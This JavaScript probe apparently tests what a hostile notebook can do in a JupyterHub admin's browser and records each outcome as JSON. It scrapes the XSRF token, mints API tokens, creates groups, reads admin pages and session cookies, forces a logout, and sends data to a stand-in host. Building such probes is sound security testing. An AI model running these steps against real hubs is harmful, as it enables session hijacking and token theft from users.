// What the JavaScript of a hostile notebook tries, in the browser of somebody who manages groups.
// The outcomes end up in the page, as JSON. HUB is the address of the hub.
(async () => {
  const refused = (what) => { throw new Error(what); };
  const framed = (path) => new Promise((resolve, reject) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try { resolve(frame.contentDocument.documentElement.outerHTML); } catch (error) { reject(error); }
    };
    setTimeout(() => reject(new Error("never loaded")), 5000);
    frame.src = `${HUB}${path}`;
    document.body.append(frame);
  });
  const asViewer = async (path, options = {}) => {
    const found = (await framed("/hub/token")).match(/xsrf_token: "([^"]+)"/);
    const answer = await fetch(`${HUB}/hub/api${path}`, {
      credentials: "include", headers: { "X-XSRFToken": found[1] }, ...options,
    });
    return answer.ok ? answer.text() : refused(answer.status);
  };
  const attempts = {
    read_people: () => asViewer("/users"),
    make_a_group: () => asViewer("/groups/taken", { method: "POST" }),
    make_a_token: () => asViewer("/users/" + VIEWER + "/tokens", { method: "POST" }),
    read_the_admin_page: () => framed("/hub/admin"),
    read_the_token_page: () => framed("/hub/token"),
    read_another_server: async () => {
      const answer = await fetch(OTHER, { credentials: "include", redirect: "manual" });
      return answer.ok ? answer.text() : refused(answer.status);
    },
    read_cookies: async () =>
      /jupyterhub-(hub-login|session-id|user-)/.test(document.cookie) ? document.cookie
        : refused("none of the hub's"),
    sign_out_by_post: async () => {
      const answer = await fetch(`${HUB}/hub/logout`, { method: "POST", credentials: "include" });
      return answer.ok ? "signed out" : refused(answer.status);
    },
    send_it_elsewhere: async () => (await fetch("http://127.0.0.1:9/?taken")).status,
  };
  const outcomes = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      outcomes[name] = `got ${String(await attempt()).slice(0, 80)}`;
    } catch (error) {
      outcomes[name] = `refused: ${error}`;
    }
  }
  document.documentElement.dataset.outcomes = JSON.stringify(outcomes);
})();
